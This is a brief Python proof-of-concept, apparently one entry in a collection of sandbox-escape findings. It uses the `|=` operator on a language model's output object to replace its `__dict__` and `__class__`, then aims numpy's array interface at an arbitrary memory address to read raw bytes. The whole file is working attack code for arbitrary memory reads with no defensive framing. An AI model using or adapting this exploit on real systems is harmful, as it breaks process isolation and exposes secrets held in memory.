"""Class: memory. Source: own find. Escape: `|=` sets items of a model output, and items become attributes:
its `__dict__`, then its `__class__`, past everything that is missing in its own class."""

from collections import OrderedDict

import numpy as np


class Own(OrderedDict):
    pass


def attack(model, tokenizer, address):
    out = model(**tokenizer("the cat", return_tensors="pt"))
    inside = {}
    out |= {"__dict__": inside}
    inside["__array_interface__"] = {
        "shape": (6,),
        "typestr": "|u1",
        "data": (address, True),
        "version": 3,
    }
    out |= {"__class__": Own}
    return np.array(out).tobytes()
